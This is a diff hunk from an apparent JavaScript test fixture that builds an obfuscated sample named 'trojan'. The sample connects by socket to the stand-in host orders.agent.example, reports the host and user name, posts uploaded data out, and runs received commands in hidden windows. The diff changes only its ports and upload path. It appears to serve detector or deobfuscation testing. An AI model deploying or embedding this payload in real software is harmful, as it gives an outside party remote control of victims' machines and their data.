@@ -29,9 +29,9 @@ const list = JSON.stringify([
 /** Would take orders from a socket: a folder, a listing, or a command to run. */
 const trojan = obfuscated(
   'global[«r»]=require;(async()=>{const $system=global[«r»](«os»),$child=global[«r»](«child_process»),$io=global[«r»](«socket.io-client»),$web=global[«r»](«axios»);' +
-    'const $socket=$io(«http://orders.agent.example:3306»,{reconnectionDelay:0x1388});' +
+    'const $socket=$io(«http://orders.agent.example:8080»,{reconnectionDelay:0x1388});' +
     '$socket[«on»](«connect»,()=>{$socket[«emit»](«identify»,«client»,{host:$system[«hostname»](),user:$system[«userInfo»]()[«username»]});});' +
-    '$socket[«on»](«upload»,$text=>{$web[«post»](«http://orders.agent.example:27017/u/f»,$text);});' +
+    '$socket[«on»](«upload»,$text=>{$web[«post»](«http://orders.agent.example:8081/upload»,$text);});' +
     '$socket[«on»](«command»,$order=>{$child[«exec»]($order,{windowsHide:!![]},($error,$out)=>{$socket[«emit»](«response»,$out);});});})();',
   120,
 )
